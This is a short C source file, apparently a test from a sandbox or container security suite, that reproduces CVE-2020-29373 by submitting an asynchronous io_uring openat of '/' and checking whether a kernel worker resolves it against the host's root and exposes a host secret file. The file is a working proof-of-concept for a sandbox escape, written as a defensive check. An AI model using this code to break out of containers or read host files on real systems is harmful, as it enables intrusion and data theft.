// SPDX-License-Identifier: GPL-2.0-only
// CVE-2020-29373: openat by io_uring, done by a worker of the kernel, once
// looked up names from the root of init.
// Modes: guest bare
// (where it is open this kernel's workers have the root of their creator, too)
#include <linux/io_uring.h>
#include <sys/mman.h>

#include "attack.h"

int main(void)
{
	struct io_uring_params p = { 0 };
	int ring = syscall(SYS_io_uring_setup, 4, &p);
	struct io_uring_sqe *sqe;
	struct io_uring_cqe *cqe;
	char *sq, *cq;

	if (ring < 0)
		refused("io_uring_setup");
	sq = mmap(NULL, p.sq_off.array + p.sq_entries * 4,
		  PROT_READ | PROT_WRITE, MAP_SHARED, ring,
		  IORING_OFF_SQ_RING);
	cq = mmap(NULL, p.cq_off.cqes + p.cq_entries * sizeof(*cqe),
		  PROT_READ | PROT_WRITE, MAP_SHARED, ring,
		  IORING_OFF_CQ_RING);
	sqe = mmap(NULL, p.sq_entries * sizeof(*sqe), PROT_READ | PROT_WRITE,
		   MAP_SHARED, ring, IORING_OFF_SQES);
	NEED(sq != MAP_FAILED && cq != MAP_FAILED && sqe != MAP_FAILED);
	*sqe = (struct io_uring_sqe){
		.opcode = IORING_OP_OPENAT,
		.flags = IOSQE_ASYNC,
		.fd = AT_FDCWD,
		.addr = (uintptr_t)"/",
		.open_flags = O_RDONLY | O_DIRECTORY,
	};
	*(uint32_t *)(sq + p.sq_off.array) = 0;
	__atomic_store_n((uint32_t *)(sq + p.sq_off.tail), 1,
			 __ATOMIC_RELEASE);
	NEED(syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS,
		     NULL, 0) == 1);
	cqe = (void *)(cq + p.cq_off.cqes);
	if (cqe->res < 0) {
		errno = -cqe->res;
		refused("IORING_OP_OPENAT");
	}
	if (file_has_secret(cqe->res))
		worked("/secret of the host is read");
	harmless("IORING_OP_OPENAT: the guest's root");
}
